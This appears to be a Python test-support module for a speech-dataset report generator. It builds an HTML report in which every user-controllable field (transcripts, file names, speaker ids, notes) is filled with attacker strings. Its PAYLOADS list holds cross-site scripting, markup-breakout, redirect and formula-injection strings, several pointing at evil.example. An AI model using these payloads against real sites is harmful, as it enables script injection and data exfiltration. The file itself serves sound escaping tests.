"""What an attacker might write into transcripts, file names, speaker ids and notes (H01 to H12), and a build that holds it everywhere."""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path

from report_world import cut_row, facts_of, ledger_row, segment_row, write_folder

from speccraft.report.page import write_report
from speccraft.sound.place import BankItem

PAYLOADS = (
    "</script><script>attacked=1</script>",
    "<img src=x onerror=attacked=1>",
    '"><svg onload=attacked=1>',
    "' onmouseover='attacked=1' autofocus onfocus='attacked=1",
    "javascript:attacked=1",
    "data:text/html,<script>attacked=1</script>",
    "</style><style>*{background:url(https://evil.example/x)}",
    "</title><base href=//evil.example>",
    "<!-- --> ]]> {{ 7*7 }} {% raw %} ${attacked=1}",
    "\u2028<iframe srcdoc='<script>parent.attacked=1</script>'>\u202e\x1b[31m",
    "</p></table></details></svg><form action=https://evil.example><input autofocus>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "&lt;script&gt;attacked=1&lt;/script&gt; &#60;b&#62;",
    "=HYPERLINK(evil) [link](https://evil.example) ![x](https://evil.example/x.png)",
    "<math><mtext></mtext><a xlink:href=javascript:attacked=1>x</a>",
    "<template shadowrootmode=open><slot></slot></template><audio src=x autoplay>",
)
_HARMLESS = str.maketrans("<>\"'&=(){}[]:/;%$#!", "αβγδεζηθικλμνξοπρστ")


def disarmed(payload: str) -> str:
    """The same text with another letter for each character that means something, so that everything but the danger is alike."""
    return payload.translate(_HARMLESS)


def shown(payload: str) -> str:
    """What may be seen of a payload: all that is visible."""
    return payload.replace("\u2028", " ").replace("\u202e", "").replace("\x1b", "")


def attacked_build(folder: Path, texts: Sequence[str], *, pseudonyms: bool) -> Path:
    """The page of a build in which every string that a source, a file or a person can choose is one of some texts."""
    cuts, lost, segments, banks = [], [], [], []
    for number, text in enumerate(texts):
        split = ("train", "dev", "test")[number % 3]
        own = {"text": text, "speaker": text, "source": text, "groups": json.dumps({text: text}), "language": text, "style": text}
        cuts += [cut_row(10 * number + part, split, seconds=1.0, **own) for part in range(6)]
        lost += [
            ledger_row(f"{text}.wav", "failed", None, reason=f"broken: {text}", source=text),
            ledger_row(f"{text}2.wav", "dropped", 9.0, rule=text, value=text, limit=text, source=text),
            ledger_row(f"{text}3.wav", "refused", 9.0, reason=text, source=text),
        ]
        segments.append(segment_row(cut_row(900 + number, text=text, source=text), f"{text}2.wav", fate="dropped", rule=text, value=text, limit=text))
        banks += [BankItem(text, text, "rir", "train", "x.flac", 1.0, text, 0.5), BankItem(f"{text}b", text, "noise", "test", "y.flac", 1.0, "CC0-1.0")]
    certificate = {
        "axes": {text: {"train": 1, "dev": 1, "test": 1, "n_shared": 1, "shared": [text]} for text in texts},
        "bridges": dict.fromkeys(texts, 1),
        "strata": [{"stratum": text, "seconds": 1.0, "dev": {"short": 1.0}, "test": {"short": 1.0}} for text in texts],
        "notes": list(texts),
        "banks": {text: {"train": [text], "test": [text]} for text in texts},
    }
    write_folder(folder, cuts, lost, segments, banks=banks, certificate=certificate, seconds_of_tone=0.1)
    environment = {"place": texts[0], "snr_db": {"low": 0.0, "high": 20.0}, "noise": ["trains"]}
    # The alphabet of Cherokee is not known to the page: no character is called outside of it, whatever it means.
    changes = {"job": {"task": "transcribe", "languages": ["chr"]}, "environment": environment, "privacy": {"pseudonyms": pseudonyms}}
    refusals = tuple((text, text, 1) for text in texts)
    waivers = tuple({"source": text, "licence": text, "rows": 1, "id": text, "day": "2026-10-01", "reason": text, "decided_by": text} for text in texts)
    facts = facts_of(changes, refusals=refusals, name=texts[1], attributions=tuple((text, text, text) for text in texts), waivers=waivers)
    write_report(folder, facts)
    return folder / "report.html"
